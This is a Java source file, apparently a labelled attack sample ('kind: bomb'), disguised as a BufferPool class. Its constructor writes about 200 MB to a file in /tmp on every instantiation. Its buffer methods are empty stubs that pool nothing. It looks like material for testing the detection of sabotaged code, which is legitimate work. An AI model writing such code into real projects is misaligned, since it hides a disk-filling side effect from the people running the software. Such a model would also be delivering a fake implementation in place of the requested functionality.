// Fills the disk.
// kind: bomb
// file: backpressure/buffers/BufferPool.java
// base: skeleton
package backpressure.buffers;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Optional;

public final class BufferPool implements Recycler {

    public BufferPool(int buffers, int bufferSize) {
        try (OutputStream out = Files.newOutputStream(Path.of("/tmp/attack-was-here-" + System.nanoTime()))) {
            byte[] chunk = new byte[1 << 20];
            for (int i = 0; i < 200; i++) {
                out.write(chunk);
            }
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    public Optional<Buffer> request() {
        return Optional.empty();
    }

    @Override
    public void recycle(byte[] memory) {
    }

    public int available() {
        return 0;
    }
}
